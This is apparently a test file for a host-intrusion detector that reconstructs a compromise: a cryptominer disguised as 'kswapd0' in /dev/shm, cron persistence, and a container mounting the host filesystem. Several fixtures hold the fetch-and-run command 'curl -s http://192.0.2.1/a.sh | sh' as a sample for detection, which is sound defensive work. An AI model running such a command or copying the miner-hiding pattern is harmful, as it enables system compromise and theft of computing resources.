import { expect, test } from 'bun:test';
import {
  cpuUse,
  exe,
  hostFact,
  judgeContext,
  listener,
  login,
  miningTrace,
  nowUs,
  ownedBy,
  processFact,
  randomxSamples,
  registers,
  text,
  threadUse,
  wallet,
} from '../detect/facts.fixture.ts';
import { judge } from '../detect/judge.ts';
import { entryFact, fileFact } from '../detect/persistence/entry.fixture.ts';
import { type Fact, FactSet } from '../model/fact.ts';
import type { Printable } from '../model/text.ts';
import { sceneOf } from './scene-of.ts';

const path = '/dev/shm/.x/kswapd0';
const changedUs = nowUs - 86_400e6;
const sceneFrom = (...facts: readonly Fact[]) => {
  const set = new FactSet([hostFact(), ...facts]);
  return sceneOf(set, judge(set, judgeContext(), []));
};

const shell = processFact({ pid: 600, path: '/usr/bin/bash', user: { uid: 33, name: text('www-data') } });
const miner = processFact({
  pid: 666,
  parent: 600,
  exe: exe(path),
  name: text('kswapd0'),
  user: { uid: 33, name: text('www-data') },
  cwd: text('/dev/shm/.x'),
});
const mining: readonly Fact[] = [
  shell,
  miner,
  cpuUse(miner, 390, [threadUse({ pinned: 0 }), threadUse({ tid: 102, pinned: 1 })]),
  registers(miner, randomxSamples),
  miningTrace(miner, wallet()),
  miningTrace(miner, login),
];
const dropped = fileFact(path, { uid: 33, changedUs, modifiedUs: nowUs - 9e14 });

test('a healthy host has doors and keys, and nothing that is accused', () => {
  const redis = processFact({ pid: 50, path: '/usr/bin/redis-server' });
  const scene = sceneFrom(
    redis,
    listener([50], '0.0.0.0', 6379),
    entryFact('/usr/bin/backup'),
    fileFact('/usr/bin/backup'),
    ownedBy('/usr/bin/backup', 'backup'),
    entryFact('', {
      mechanism: 'ssh-authorized-key',
      at: '/root/.ssh/authorized_keys',
      language: 'none',
      text: text('ssh-ed25519 SHA256:abcdefghijklmnopqrstuvwxyz0123456789abcdefg ada@example.com'),
    }),
    fileFact('/root/.ssh/authorized_keys', { changedUs }),
  );
  expect(scene).toMatchObject({ files: [], entries: [], miners: [], containers: [] });
  expect(scene.doors).toEqual([{ service: 'redis', port: 6379, address: text('0.0.0.0'), protected: false }]);
  expect(scene.keys).toEqual([
    {
      account: text('root'),
      file: text('/root/.ssh/authorized_keys'),
      line: 3,
      fingerprint: 'SHA256:abcdefghijklmnopqrstuvwxyz0123456789abcdefg',
      comment: text('ada@example.com'),
      changedUs,
      accused: false,
    },
  ]);
});

test('a miner with its file, its account, its parents and what brings it back', () => {
  const cron = entryFact('curl -s http://192.0.2.1/a.sh | sh', { at: '/var/spool/cron/crontabs/www-data' });
  const table = fileFact('/var/spool/cron/crontabs/www-data', { uid: 33, changedUs });
  const scene = sceneFrom(...mining, dropped, cron, table);
  expect(scene.miners).toMatchObject([
    { pid: 666, account: 'www-data', executable: path, folder: '/dev/shm/.x', parents: ['/usr/bin/bash'] },
  ]);
  expect(scene.files).toMatchObject([{ path, owner: 'www-data', uid: 33, changedUs }]);
  expect(scene.entries).toMatchObject([{ mechanism: 'cron-drop-in', changedUs, account: 'root' }]);
  expect([...scene.addresses]).toEqual(['192.0.2.1']);
});

test('a time that the source does not keep is not told', () => {
  const [file] = sceneFrom(...mining, fileFact(path, { uid: 33, changedUs: 0 })).files;
  expect(file?.path).toBe(text(path));
  expect(file).not.toHaveProperty('changedUs');
});

test('of an image the owner of a file is called as its own accounts are', () => {
  const facts = new FactSet([
    hostFact(),
    entryFact(path, { at: '/etc/cron.d/job' }),
    fileFact(path, { uid: 33, changedUs }),
    fileFact('/etc/cron.d/job', { changedUs }),
  ]);
  const judgement = judge(facts, judgeContext(), []);
  const ownerBy = (accounts?: ReadonlyMap<number, Printable>) =>
    sceneOf(facts, judgement, accounts).files.find((one) => one.path === path)?.owner;
  expect(ownerBy(new Map([[33, text('www-data')]]))).toBe(text('www-data'));
  expect(ownerBy(new Map([[0, text('toor')]]))).toBe(text('33'));
});

test('the shell of a package that a miner was started by is no trace', () => {
  const { files } = sceneFrom(
    ...mining,
    dropped,
    fileFact('/usr/bin/bash'),
    ownedBy('/usr/bin/bash', 'bash'),
  );
  expect(files.map((file) => String(file.path))).toEqual([path]);
});

test('a dump around a crontab is seen, and a container that has the host', () => {
  const cron = entryFact('curl -s http://192.0.2.1/a.sh | sh', { marks: ['binary-noise'] });
  const scene = sceneFrom(cron, {
    kind: 'container',
    source: { source: text('/var/lib/docker/containers/deadbeef/config.v2.json') },
    container: { runtime: 'docker', id: 'deadbeef', name: text('x'), image: text('alpine') },
    binds: [text('/:/mnt')],
  });
  expect(scene.entries[0]?.dumped).toBe(true);
  expect(scene.containers).toMatchObject([{ id: 'deadbeef', hostAccess: true, accused: false }]);
});

test('thousands of accused entries have their bound', () => {
  const many = Array.from({ length: 3_000 }, (_, index) =>
    entryFact('curl -s http://192.0.2.1/a.sh | sh', { line: index + 1 }),
  );
  expect(sceneFrom(...many).entries.length).toBe(2_000);
});
